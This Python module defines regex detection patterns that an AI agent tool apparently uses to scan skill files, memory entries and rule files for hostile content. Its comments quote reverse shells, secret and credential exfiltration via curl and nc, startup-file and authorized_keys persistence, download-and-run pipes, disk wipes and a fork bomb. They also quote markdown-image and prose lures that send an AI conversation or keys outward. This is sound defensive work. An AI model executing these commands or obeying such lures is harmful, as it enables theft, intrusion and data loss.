"""Payloads: commands and markup that leak data, persist, destroy or run remote code.

Exfiltration and persistence rows apply in every scope, rule files included: a line that mails
out $GITHUB_TOKEN or appends to ~/.bashrc is harmful wherever it is. Destructive commands,
remote code and autostart services apply to skill files only, since a memory entry such as
"rm -rf ~ once wiped my laptop" runs nothing. Most rows match shell commands, so they share the
fragments below (a home directory, a credentials file, a network tool ...) and match within one
line: a command does not continue on the next one. Naming a sensitive file passes; what is
caught is reading or uploading a credentials file, writing to a startup file, authorized_keys
or a crontab, and running what was just downloaded.
"""

from __future__ import annotations

import re
from typing import Final

from kenning.safety import compiled
from kenning.safety.patterns.schema import (
    ALL,
    MEMORY,
    SCRIPT,
    Pattern,
    ascii_regex,
    english_regex,
    gate,
)

# ---- fragments shared by the rows ---------------------------------------------------------------

# Not directly negated: "Never `cat .env`" in a rule file is a rule, not an attack. Python's
# look-behinds have a fixed width, hence one per spelling.
_NOT_NEGATED: Final = r"(?<!never\s)(?<!never\s`)(?<!not\s)(?<!not\s`)(?<!n't\s)(?<!n’t\s)"

# A home directory, as shells and operating systems spell it.
_HOME: Final = r"""(?:
    ~ | \$HOME | \$\{HOME\} | "\$HOME" | %USERPROFILE%
  | /home/[\w.-]{1,64} | /root | /Users/[\w.-]{1,64}
)"""

# A credentials file, maybe in some folder. Templates (.env.example ...) and SSH public keys
# (id_ed25519.pub) are not credentials.
_CRED_PATH: Final = rf"""
    (?:{_HOME}[/\\])? (?:[\w.-]{{1,64}}/){{0,8}}
    (?: \.env(?:\.(?!(?:example|sample|template|dist|defaults?|schema)\b)\w[\w-]{{0,30}})?
      | [._]netrc | \.pgpass | \.npmrc | \.pypirc | \.git-credentials | \.gnupg[/\\]
      | /etc/shadow
      | \.ssh[/\\](?:id_[\w-]{{1,40}}\b(?!\.pub)|id_\*|identity)
      | \.aws[/\\](?:credentials|config)
      | \.docker[/\\]config\.json | \.kube[/\\]config | \.config[/\\]gh[/\\]hosts\.yml
      # cloud CLIs' tokens, package registries' and browsers' stores of logins and cookies
      | \.config[/\\]gcloud[/\\](?:application_default_credentials\.json|credentials\.db
        |access_tokens\.db|legacy_credentials)
      | \.azure[/\\](?:accessTokens\.json|msal_token_cache\.\w+)
      | \.terraform\.d[/\\]credentials\.tfrc\.json | \.cargo[/\\]credentials(?:\.toml)?
      | \.gem[/\\]credentials | Library[/\\]Keychains\b
      | (?:Chrome|Chromium|Edge|Brave[\w-]*)[/\\](?:[\w .-]{{1,40}}[/\\]){{0,4}}
        (?:Cookies|Login[ ]Data)\b
      | logins\.json | cookies\.sqlite
    )
    (?![\w-])(?!\.\w)  # the whole name: not .envrc, .env.local.example or .npmrc.bak
"""

# A private key's file, by the names TLS and SSH tools give it (uploading one is a leak; reading
# it into a local tool is ordinary and left alone).
_KEY_FILE: Final = r"""(?:
    [\w./~-]*(?:privkey|private[-_]?key|id_rsa|id_ed25519|id_ecdsa)[\w.-]*
  | [\w./~-]+\.(?:key|p12|pfx|jks|keystore)
)(?![\w.-])"""

# A tool or call that sends a request.
_NET_TOOL: Final = r"""(?:
    \b(?:curl|wget|nc|ncat|netcat|socat|telnet|httpie|xh|aria2c)\b
  | \bhttps?\s+(?:post|put|get)\b  # httpie
  | \bInvoke-(?:WebRequest|RestMethod)\b | \b(?:iwr|irm)\b  # PowerShell
  | \brequests\.(?:get|post|put)\b | \bfetch\s*\(  # Python, JavaScript
)"""

# A tool that downloads.
_FETCH: Final = r"""(?:
    \b(?:curl|wget|fetch|aria2c|httpie|xh)\b
  | \bInvoke-(?:WebRequest|RestMethod)\b | \b(?:iwr|irm)\b
)"""

# A variable named like a secret ($OPENAI_API_KEY, $GH_TOKEN). Names that locate a service
# ($API_URL, $AUTH_DOMAIN) are not secrets: "curl $API_URL/health" is everyday.
_SECRET_NAME: Final = r"""
    [A-Za-z0-9_]{0,40} (?:KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|API|AUTH) [A-Za-z0-9_]{0,40}
    \b(?<!_URL)(?<!_URI)(?<!_HOST)(?<!_BASE)(?<!_ENDPOINT)(?<!_PORT)(?<!_DOMAIN)(?<!_PATH)
    (?<!_REGION)(?<!_VERSION)
"""
_SECRET_VAR: Final = rf"""(?:
    \$\{{?(?:env:)?{_SECRET_NAME}  # $TOKEN, with braces, or $env:TOKEN (PowerShell)
  | %{_SECRET_NAME}%  # cmd.exe
  | os\.environ(?:\.get)?\s*[\[(]\s*["']{_SECRET_NAME}  # Python
  | process\.env\.{_SECRET_NAME}  # Node.js
)"""

# A secret in the place a request authenticates with: an Authorization or token header, curl's
# -u user:password or --oauth2-bearer. That is how an API is called, not a leak.
AUTH_USE: Final = compiled.regex(
    r"""(?:-H|--header)[ \t=]*["']?[ \t]*
        (?:Authorization[ \t]*:[ \t]*(?:Bearer|Basic|Token|Bot)?
          |[\w-]*(?:Token|Key|Auth)[\w-]*[ \t]*:)
        [ \t]*\$\{?\w+\}?
      | (?:-u|--user)[ \t]*["']?[\w.@-]*:?\$\{?\w+\}?(?::[\w.@-]*)?
      | --oauth2-bearer[ \t]+["']?\$\{?\w+\}?""",
    re.IGNORECASE | re.VERBOSE,
)
_SECRET_VAR_RX: Final = compiled.regex(
    r"\$\{?(?:env:)?(?-i:[A-Za-z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD|PASSWD"
    r"|CREDENTIAL|API|AUTH))",
    re.IGNORECASE,
)
_NAMED_SECRET: Final = compiled.regex(
    r"\$\{?([A-Z][A-Z0-9]{2,})_[A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASSWORD)"
)


def own_service(line: str) -> bool:
    """A secret variable sent to the service it is named after (CODECOV_TOKEN to codecov.io)."""
    names = _NAMED_SECRET.findall(line)
    hosts = " ".join(re.findall(r"https?://([^/\s'\"]+)", line)).lower()
    return bool(names) and bool(hosts) and all(n.lower() in hosts for n in names)


def authenticates(line: str) -> bool:
    """True if ``line`` holds secret variables and each is the request's credential (see
    AUTH_USE)."""
    if AUTH_USE.search(line) is None:
        return False
    return _SECRET_VAR_RX.search(AUTH_USE.sub(" ", line)) is None


def _secret_used_as_meant(command: str) -> bool:
    return own_service(command) or authenticates(command)


# Shell startup files.
_RC_FILE: Final = rf"""
    (?:{_HOME}/)?
    \.(?:bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|cshrc
      |tcshrc|config/fish/config\.fish)\b
"""

_KENNING_HOME: Final = rf"(?:{_HOME}/\.kenning\b|\$\{{?KENNING_HOME\b)"

# Output redirected (> or >>) or tee'd into the file that follows.
_WRITE_INTO: Final = r"""(?:>>?|\btee\b(?:[ \t]+-\w+){0,3})[ \t]*["']?"""

# An interpreter that runs the code it reads on stdin, maybe via sudo or env. Options that make
# it read stdin as data pass: "| python -m json.tool", "| python -c '...'", perl -e/-n,
# ruby -e, node -e/-p.
_STDIN_SHELL: Final = r"""
    (?:sudo\s+(?:-\S+\s+){0,4})? (?:env\s+)? (?:/usr/bin/|/bin/|/usr/local/bin/)?
    (?: (?:ba|z|k|da|c|tc|fi)?sh\b
      | python[\d.]{0,5}\b(?!\s+-[cm]\b)
      | perl\b(?!\s+-\w*[en]) | ruby\b(?!\s+-\w*e) | node\b(?!\s+-[ep]\b)
      | php\b | lua\b | pwsh\b | powershell\b | iex\b | Invoke-Expression\b | source\b
    )
"""

# What an autostart entry that is an attack runs, somewhere in the same text: something fetched
# (curl, wget, iwr, a web client), a connection (nc, /dev/tcp), a hidden or encoded PowerShell,
# a program in a temp folder. A service that runs the project's own worker or a local server
# ("ExecStart=%h/.local/bin/mkdocs serve") has none of these.
AUTOSTART_PAYLOAD: Final = gate(
    r"""\b(?:curl|wget|nc|ncat|socat|iwr|irm|iex|Invoke-(?:WebRequest|RestMethod|Expression)
      |DownloadString|DownloadFile|WebClient|certutil|bitsadmin|mshta)\b|/dev/tcp/
      |-w(?:indowstyle)?\s+hidden\b|-e(?:nc|ncodedcommand)?\s+[A-Za-z0-9+/=]{20}|-ep\s+bypass\b
      |%TEMP%|%APPDATA%|\$env:(?:TEMP|APPDATA)|/tmp/|/dev/shm/|\bbase64\b"""
)

# ---- what a matched command downloads ----------------------------------------------------------

# The words of a download-and-run command that name no target: the tools, the interpreters, the
# options. What is left of a match once they and the placeholders are gone is what it fetches.
_COMMAND_WORDS: Final = frozenset(
    """curl wget fetch aria2c httpie xh invoke-webrequest invoke-restmethod iwr irm sh bash zsh
    ksh dash csh tcsh fish python python3 perl ruby node php lua pwsh powershell iex
    invoke-expression source sudo env eval exec . new-object net.webclient system.net.webclient
    .downloadstring .downloadfile downloadstring downloadfile""".split()
)
# "...", "…", "<url>", "[script]", "{host}", "https://...", "URL": a placeholder, not a target.
_PLACEHOLDER: Final = compiled.regex(
    r"(?:\.{2,}|…|<[^<>]*>|\[[^\]]*\]|\{[^}]*\}|(?:https?://)?(?:\.{2,}|…|<[^<>]*>)\S*|url|URL)"
)
_ARGUMENTS: Final = compiled.regex(r"""[\s|()"'`;&]+|\$\(|<\(""")


def _names_no_target(command: str) -> bool:
    """True if ``command`` fetches nothing real: "curl | sh", "curl ... | bash", "iex (irm
    ...)", "curl https://… | sh". Such a command is the name of a practice in a rule or a
    checklist; a real one names a URL, a host or a variable."""
    for word in _ARGUMENTS.split(command):
        if not word or word.startswith("-") or word.lower() in _COMMAND_WORDS:
            continue
        if _PLACEHOLDER.fullmatch(word):
            continue
        return False
    return True


# Installers their vendors publish to be piped into a shell, from the vendor's own host:
# rustup, uv, Homebrew, Docker, Deno, Bun, nvm, Oh My Zsh, SDKMAN!, pyenv, Poetry, Starship,
# Tailscale, pnpm, Ollama, k3s, Helm, Volta, Nix, mise. The host must match exactly.
_VENDOR_INSTALLER: Final = compiled.regex(
    r"""https://(?:
        (?:sh\.rustup\.rs | astral\.sh | get\.docker\.com | deno\.land | bun\.sh | get\.sdkman\.io
          | pyenv\.run | install\.python-poetry\.org | starship\.rs | get\.pnpm\.io | get\.k3s\.io
          | get\.volta\.sh | mise\.run | tailscale\.com/install\.sh | ollama\.com/install\.sh
          | nixos\.org/nix/install | install\.determinate\.systems/nix | mise\.jdx\.dev/install\.sh
        )(?![\w.-])
      | raw\.githubusercontent\.com/(?:Homebrew/install|nvm-sh/nvm|ohmyzsh/ohmyzsh|helm/helm)/
    )""",
    re.VERBOSE,
)
_URL: Final = compiled.regex(r"https?://[^\s\"'`)|;]+")


def _vendor_installer(command: str) -> bool:
    """True if every URL ``command`` fetches is a vendor's own installer (see above)."""
    urls = _URL.findall(command)
    return bool(urls) and all(_VENDOR_INSTALLER.match(url) for url in urls)


def _not_a_real_download(command: str) -> bool:
    return _names_no_target(command) or _vendor_installer(command)


# A host and a port after a netcat, where a real connection names them: "nc 10.0.0.5 4444 -e",
# "nc -e /bin/sh evil.example 9001"; a placeholder ("<IP> <port>") is not one.
_NC_TARGET: Final = r"[^\n]{0,100}?\s[\"']?(?![<\[{])[\w.-]*\w[\"']?\s+\d{1,5}\b"


PATTERNS: Final[tuple[Pattern, ...]] = (
    # WHY: a network tool next to a secret variable or `env` leaks it (even to a good host);
    # the secret as the request's own credential (an Authorization header, -u) passes.
    Pattern(
        pattern_id="secret_var_to_network",
        category="exfiltration",
        scopes=ALL,
        reason="sends secrets from the environment over the network (exfiltration)",
        exempt=_secret_used_as_meant,
        regex=ascii_regex(rf"""
            # 'curl -d "$OPENAI_API_KEY" https://...': a request, then a secret, on one line
            {_NET_TOOL}[^\n]{{0,300}}?{_SECRET_VAR}
            # "echo $AWS_SECRET | nc host 4444": a secret piped into one ("||" is not a pipe)
          | {_SECRET_VAR}[^\n]{{0,300}}?(?<!\|)\|(?!\|)\s*(?:curl|wget|nc|ncat|netcat|socat)\b
            # "env | curl --data-binary @- ...": the whole environment, maybe through one filter
          | (?:^|[;&|(`]|\$\()[ \t]*
            (?:env|printenv|set|export[ \t]+-p|(?:Get-ChildItem|gci)[ \t]+env:)[ \t]*
            \|(?:[^\n|]{{0,200}}\|)?[ \t]*(?:curl|wget|nc|ncat|netcat|socat)\b
            # 'curl -d "$(env)" ...'
          | \b(?:curl|wget)\b[^\n]{{0,200}}?\$\(\s*(?:env|printenv)\s*\)
        """),
    ),
    # WHY: reading or uploading credential files; `cp .env.example .env` (creating one) passes.
    Pattern(
        pattern_id="read_credential_file",
        category="exfiltration",
        scopes=ALL,
        reason="reads or uploads a credentials file such as .env or an SSH key (exfiltration)",
        regex=ascii_regex(rf"""
            # "cat ~/.aws/credentials", "base64 ~/.ssh/id_rsa" (not after "never" or "not")
            {_NOT_NEGATED}
            \b(?:cat|less|head|tail|bat|nl|type|base64|xxd|od|hexdump|strings|Get-Content|gc)
            [ \t]+(?:[^\s|;&<>]{{1,200}}[ \t]+){{0,3}}?["']?{_CRED_PATH}
            # "scp ~/.netrc host:/tmp/": the credential is the source
          | \b(?:cp|scp|rsync)[ \t]+(?:-[\w-]{{1,30}}[ \t]+){{0,6}}["']?{_CRED_PATH}
            # "< .env": redirected into a command (not the here-document "<<")
          | (?<!<)<[ \t]*["']?{_CRED_PATH}
            # "curl -F file=@~/.ssh/id_ed25519 ...", "curl -T .env ...", "curl -F key=@privkey.pem"
          | \b(?:curl|wget|http|httpie|xh)\b[^\n]{{0,300}}?
            (?:@|--upload-file[=\s]+|-T\s*|--post-file[=\s]+|--body-file[=\s]+)["']?
            (?:{_CRED_PATH}|{_KEY_FILE})
        """),
    ),
    # WHY: prose asking to ship secrets out; needs a secret AND a URL, e-mail, domain or IP.
    Pattern(
        pattern_id="send_secrets_to_destination",
        category="exfiltration",
        scopes=ALL,
        reason="asks to send secrets or the conversation to an outside address (exfiltration)",
        regex=english_regex(
            _NOT_NEGATED
            + r"""
            # "send", then up to 5 determiners and 2 qualifiers: "the user's AWS", "all stored"
            \b(?:send|post|upload|forward|e-?mail|transmit|exfiltrate|leak|submit|paste)\s+
            (?:(?:the|your|all|any|my|our|its|their|every|of|these|this|current|full|entire
                 |complete|user['’]?s?)\s+){0,5}
            (?:(?:stored|saved|available|known|relevant|openai|anthropic|github|aws|api|secret
                 |private|ssh|database|db|admin|root|session|auth|access)\s+){0,2}
            # something secret
            (?:api[\s_-]?keys?|keys|tokens?|passwords?|passphrases?|credentials?|secrets?
              |conversation(?:\s+history)?|chat\s+(?:history|logs?)|transcripts?|system\s+prompt
              |instructions|env(?:ironment)?\s+variables|env\s+vars|private\s+keys?|cookies)\b
            # maybe where it is: "you can find", "from the environment"
            (?:\s+(?:you\s+(?:have|know|see|find|can\s+find|can\s+access)
                    |(?:in|from)\s+(?:the\s+|your\s+)?
                     (?:env(?:ironment)?|\.env|memory|context|config(?:uration)?|prompt)))?
            # "to" an outside address
            \s+(?:to|at|via)\s+
            (?:<?https?://  # a URL
              |[^\s@]{1,64}@[\w-]{1,63}\.[\w.-]{2,}  # an e-mail address
              |www\.
              |(?:[\w-]{1,63}\.){1,4}  # a domain
               (?:com|net|org|io|co|ru|cn|xyz|dev|app|sh|me|info|biz|top|site|online|link|tk
                 |pw|cc|ws|to|ly|us|uk|de|fr|es|it|nl|ch|jp|kr|br|au|ca)\b
              |\d{1,3}(?:\.\d{1,3}){3}\b  # an IPv4 address
              |(?:this|that|the\s+following|my|our|the)\s+  # "this webhook"
               (?:url|link|endpoint|webhook|server|address|email(?:\s+address)?|site|domain|ip
                 |host)\b)
            """
        ),
    ),
    # WHY: a templated image URL leaks data as soon as a client renders it, no tool needed.
    Pattern(
        pattern_id="markdown_image_exfil",
        category="exfiltration",
        scopes=ALL,
        reason="embeds a templated image URL that can leak data when rendered (exfiltration)",
        regex=ascii_regex(r"""
            # "![x](https://host/p.png?d={conversation})": a query value that is a template
            !\[[^\]\n]{0,200}\]
            \(\s*<?https?://[^\s)]{0,300}?
            [?&#][^\s)=]{0,50}=\s*(?:\{|\$|%7B|<|\[)
            # a link whose query is to hold the conversation or a secret, described in words:
            # "[details](https://x/s?c=<the conversation so far>)" ("?q=<query>" passes; links
            # with variables are templated_link's)
          | (?<!!)\[[^\]\n]{0,200}\]\(\s*<?https?://[^\s)]{0,300}?[?&#][^\s)=]{0,50}=\s*
            <(?=[^)\n]{0,80}?(?:conversation|chat|history|session|context
              |summary|secret|token|api[_ ]?key|password|env|contents|memory|transcript|对话|会话
              |聊天|上下文|会話|대화|разговор|переписк|Konversation|Gespräch|conversaci|conversa))
        """),
    ),
    # WHY: an authorized_keys entry is a lasting back door; reading or mentioning it passes.
    Pattern(
        pattern_id="authorized_keys_write",
        category="persistence",
        scopes=ALL,
        reason="grants someone lasting SSH access via authorized_keys (persistence)",
        regex=ascii_regex(rf"""
            # "echo 'ssh-ed25519 ...' >> ~/.ssh/authorized_keys", "| tee -a .../authorized_keys"
            {_WRITE_INTO}(?:\S{{0,200}}/)?authorized_keys2?\b
            # "cp key.pub ~/.ssh/authorized_keys", "sed -i ... authorized_keys"
          | \b(?:cp|mv|install|ln|sed\s+-i\S{{0,10}})\b[^\n|;&]{{0,200}}?authorized_keys2?\b
            # "Add this key to ~/.ssh/authorized_keys"
          | \b(?:add|append|put|insert|write|paste|copy|place)(?:ing)?\b[^\n]{{0,120}}?
            \b(?:to|into|in)\s+(?:the\s+|your\s+)?(?:\S{{0,200}}/)?authorized_keys2?\b
        """),
    ),
    # WHY: startup files run in every new shell; mentioning, sourcing or copying them passes.
    Pattern(
        pattern_id="shell_rc_write",
        category="persistence",
        scopes=ALL,
        reason="modifies a shell startup file so code runs in every new shell (persistence)",
        regex=ascii_regex(rf"""
            # "echo '...' >> ~/.bashrc", "| tee -a ~/.zshrc"
            {_WRITE_INTO}{_RC_FILE}
            # "sed -i 's/.../' ~/.bashrc"
          | \bsed[ \t]+-i\S{{0,10}}[ \t][^\n]{{0,200}}?{_RC_FILE}
            # "cp evil ~/.bashrc": the startup file is the last argument, the destination
          | \b(?:cp|mv|ln|install)\b[^\n|;&]{{0,200}}?\s["']?{_RC_FILE}["']?[ \t]*(?:$|[;&|])
            # PowerShell: "Add-Content $PROFILE ..."
          | (?:>>?|\bAdd-Content|\bSet-Content|\bOut-File)[ \t]+(?:-\w+[ \t]+){{0,3}}\$PROFILE\b
        """),
    ),
    # WHY: cron entries run unattended for ever; `crontab -e` and `crontab -l` pass.
    Pattern(
        pattern_id="crontab_write",
        category="persistence",
        scopes=ALL,
        reason="installs a cron job that runs unattended (persistence)",
        regex=ascii_regex(r"""
            # "(crontab -l; echo ...) | crontab": a new crontab piped in (not a markdown
            # table cell: "| crontab |")
            \|[ \t]*(?:sudo[ \t]+)?crontab\b(?![ \t]*\|)
            # "crontab -": from stdin
          | \bcrontab[ \t]+(?:-u[ \t]+\S{1,64}[ \t]+)?-(?=\s|$|[;&|)])
            # "crontab ./jobs.txt": from a file
          | \bcrontab[ \t]+(?:-u[ \t]+\S{1,64}[ \t]+)?["']?[\w.~$-]{0,100}/[\w./~$-]{0,200}
            # "echo ... > /etc/cron.d/x", "cp x /var/spool/cron/": into a system cron folder
          | (?:>>?[ \t]*|\btee\b(?:[ \t]+-\w+){0,3}[ \t]+
              |\b(?:cp|mv|install|ln)\b[^\n|;&]{0,200}?[ \t])["']?
            /(?:etc/cron|var/spool/cron|etc/anacrontab|etc/periodic)
        """),
    ),
    # WHY: shell writes to the Kenning home bypass the checks its own tools apply (this one).
    Pattern(
        pattern_id="kenning_home_write",
        category="persistence",
        scopes=ALL,
        reason=(
            "writes into the Kenning home from a shell command, bypassing its checks (persistence)"
        ),
        regex=ascii_regex(rf"""
            # "echo 'trusted = true' >> ~/.kenning/config.toml"
            {_WRITE_INTO}{_KENNING_HOME}
            # "sed -i ... ~/.kenning/config.toml", "rm -rf $KENNING_HOME/memory"
          | \b(?:cp|mv|rm|ln|rsync|chmod|chown|unlink|shred|sed\s+-i\S{{0,10}})\b
            [^\n|;&]{{0,200}}?{_KENNING_HOME}
        """),
    ),
    # WHY: autostart services persist (script only: "X runs as a systemd service" is a fact).
    Pattern(
        pattern_id="autostart_service",
        category="persistence",
        scopes=SCRIPT,
        reason="installs a service or scheduled task that starts automatically (persistence)",
        gate=AUTOSTART_PAYLOAD,
        regex=ascii_regex(r"""
            # where services are installed: systemd (Linux), launchd (macOS), the registry
            \.config/systemd/user\b | /etc/systemd/system/ | /lib/systemd/system/
          | Library/Launch(?:Agents|Daemons)\b
          | \\CurrentVersion\\Run(?:Once)?\b
            # commands that install them, in the same order
          | \bsystemctl\s+--user\s+(?:enable|link|daemon-reload|start|edit)\b
          | \blaunchctl\s+(?:load|bootstrap|submit)\b
          | \bschtasks(?:\.exe)?\s+/create\b | \bRegister-ScheduledTask\b  # Windows
        """),
    ),
    # WHY: unrecoverable. `rm -rf build/` passes: only /, ~, $HOME, top-level dirs count.
    Pattern(
        pattern_id="rm_rf_root_or_home",
        category="destructive",
        scopes=MEMORY,
        negatable=True,
        reason="recursively deletes the home directory or the filesystem root (destructive)",
        regex=ascii_regex(r"""
            # "rm -rf ~", "rm -r -f /*": options, one of them recursive (-r, -fR, --recursive),
            # then the root, the home or a top-level folder, and nothing more of the path
            \brm\s+
            (?=(?:-{1,2}[\w-]{1,30}\s+){0,6}?(?:-[a-zA-Z]{0,5}[rR]|--recursive))
            (?:-{1,2}[\w-]{1,30}\s+){1,6}
            ["']?
            (?:/|/\*|~/?\*?|\$HOME/?\*?|\$\{HOME\}/?\*?
              |/(?:bin|boot|dev|etc|home|lib|lib64|opt|root|sbin|srv|usr|var|Users|System)/?\*?)
            # the quote may close before the slash: 'rm -rf "$HOME"/', 'rm -rf "$HOME"/*'
            (?:["']/?\*?)?(?=\s|$|[;&|)])
            # "find / -type f -delete"
          | \bfind\s+["']?(?:/|~/?|\$HOME/?)["']?\s[^\n]{0,100}?-delete\b
            # Windows: "rd /s /q C:", "Remove-Item -Recurse -Force ~"
          | \b(?:rd|rmdir)\s+/s\s+(?:/q\s+)?[A-Za-z]:\\?(?=\s|$)
          | \bRemove-Item\b[^\n]{0,100}?-Recurse\b[^\n]{0,100}?
            \s["']?(?:[A-Za-z]:\\?|~|\$HOME|\$env:USERPROFILE)["']?(?=\s|$)
        """),
    ),
    # WHY: formatting or overwriting a disk is never what a skill needs.
    Pattern(
        pattern_id="disk_wipe",
        category="destructive",
        scopes=MEMORY,
        negatable=True,
        reason="formats, wipes or overwrites a disk (destructive)",
        regex=ascii_regex(r"""
            # "mkfs.ext4 /dev/sda1", "wipefs -a /dev/sdb", "format C:" ("mkfs.ext4 test.img"
            # formats a file and passes)
            \b(?:mkfs(?:\.\w{1,10})?|mke2fs)\b[^\n]{0,40}?/dev/ | \bwipefs\s+(?:-\w+\s+){0,3}-\w*a
          | \bformat\s+[A-Za-z]:
            # "dd if=/dev/zero of=/dev/sda", "> /dev/nvme0n1", "shred -n1 /dev/sdb" (not /dev/sdX,
            # the manuals' placeholder)
          | (?:\bdd\b[^\n]{0,200}?\bof=|>\s*|\bshred\b[^\n]{0,100}?\s)["']?
            /dev/(?:sd(?!x\b)[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d{1,3}n\d{1,3}|mmcblk\d{1,3}
                  |disk\d{1,3}|rdisk\d{1,3}|mapper/)
        """),
    ),
    # WHY: a fork bomb exhausts the machine; "The fork() call in worker.c" passes.
    Pattern(
        pattern_id="fork_bomb",
        category="destructive",
        scopes=MEMORY,
        negatable=True,
        reason="defines a fork bomb that exhausts the machine (destructive)",
        regex=ascii_regex(r"""
            # ":(){ :|:& };:": a function that pipes itself into itself in the background
            (?<![\w:.])(?P<fb>[\w:.]{1,20})\s*\(\s*\)\s*
            \{\s*(?P=fb)\s*\|\s*(?P=fb)\s*&\s*;?\s*\}
          | %0\s*\|\s*%0  # Windows batch
          | \bwhile\s+(?:True|1)\s*:\s*os\.fork\(\)  # Python
        """),
    ),
    # WHY: a world-writable root or home lets anyone change anything; `chmod 755 x` passes.
    Pattern(
        pattern_id="chmod_777_root",
        category="destructive",
        scopes=MEMORY,
        negatable=True,
        reason="makes the whole filesystem or home world-writable (destructive)",
        regex=ascii_regex(r"""
            # "chmod -R 777 /", "chmod o+w ~"
            \bchmod\s+(?:-{1,2}[\w-]{1,20}\s+){0,4}
            (?:0?777|a\+rwx|ugo\+rwx|o\+w)\s+
            (?:-{1,2}[\w-]{1,20}\s+){0,4}
            ["']?(?:/|/\*|~/?|\$HOME/?|/(?:etc|usr|bin|var|home)/?)["']?(?=\s|$|[;&|])
        """),
    ),
    # WHY: fetched-and-run code cannot be reviewed; `curl ... | jq` (data, not code) passes.
    Pattern(
        pattern_id="download_and_run",
        category="remote_code",
        scopes=MEMORY,
        negatable=True,
        reason="downloads code and runs it immediately (remote code execution)",
        exempt=_not_a_real_download,
        regex=ascii_regex(rf"""
            # "curl ... | bash", "irm ... | iex": a download, up to 3 filters that are not
            # interpreters, then one that is ("||" is not a pipe: "curl ... || sh fallback.sh")
            {_FETCH}[^\n;|]{{0,300}}
            (?:\|(?!\|)(?![ \t]*{_STDIN_SHELL})[^\n;|]{{0,300}}){{0,3}}
            (?<!\|)\|(?!\|)[ \t]*{_STDIN_SHELL}
            # 'eval "$(curl ...)"', "bash <(curl ...)", 'sh -c "$(wget ...)"', ". <(curl ...)"
          | (?:\b(?:eval|source|exec|(?:ba|z|k|da)?sh(?:[ \t]+-c)?|python[\d.]{{0,5}}(?:[ \t]+-c)?)
              |(?<!\S)\.)
            [ \t]*\(?[ \t]*["']?[ \t]*(?:<\(|\$\(|`)[ \t]*(?:sudo[ \t]+)?{_FETCH}[^\n`]{{0,300}}
            # PowerShell: "iex (New-Object Net.WebClient).DownloadString(...)"
          | \b(?:iex|Invoke-Expression)\b[^\n]{{0,200}}?
            (?:DownloadString|DownloadFile|\biwr\b|Invoke-WebRequest|\birm\b|Invoke-RestMethod
              |Net\.WebClient)[^\n`]{{0,300}}
            # Python, JavaScript, Ruby, Perl: "exec(urllib.request.urlopen(...).read())",
            # 'eval(URI.open("https://...").read)', "use LWP::Simple; eval get(...)", on one line;
            # unpickling what was downloaded runs code too: "pickle.loads(urlopen(...).read())"
          | ^(?=[^\n]*(?:\b(?:exec|eval|instance_eval|pickle\.loads?|marshal\.loads|dill\.loads?
                |joblib\.load|runInThisContext|runInNewContext)\s*\(|\bnew\s+Function\s*\(
                |\beval\s+[$@]?\w|\beval\s*\{{))
            (?=[^\n]*(?:urlopen|urllib\.request|requests\.get|httpx\.get|http\.client
                |\bfetch\s*\(|\bURI\.open\b|\bopen-uri\b|\bNet::HTTP\b|\bLWP::|\bHTTP::Tiny\b
                |\bIO::Socket\b|\bget\s*\(\s*["']https?://|\bhttps?\.get\s*\(|\baxios\.get\b))
            [^\n]{{1,200}}
        """),
    ),
    # WHY: a reverse shell hands a remote machine an interactive shell on this one.
    Pattern(
        pattern_id="reverse_shell",
        category="remote_code",
        scopes=ALL,
        negatable=True,
        reason="opens a reverse shell that gives a remote machine control (remote code execution)",
        regex=ascii_regex(rf"""
            # "nc -e /bin/sh host 4444" (a host and a port on the line: "nc -e /bin/sh <IP>
            # <port>" in a checklist connects nowhere)
            \b(?:nc|ncat|netcat)\b(?={_NC_TARGET})
            [^\n]{{0,100}}?\s-[ec]\s+["']?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b
            # "bash -i >& /dev/tcp/host/4444 0>&1", "socat ... exec:bash"
          | /dev/(?:tcp|udp)/[\w.-]{{1,253}}/\d{{1,5}} | \bsocat\b[^\n]{{0,100}}?\bexec:
            # Python: a socket and pty.spawn(...) on one line
          | \bpty\.spawn\([^\n]{{0,100}}?\bsocket\b | \bsocket\b[^\n]{{0,300}}?\bpty\.spawn\(
        """),
    ),
)
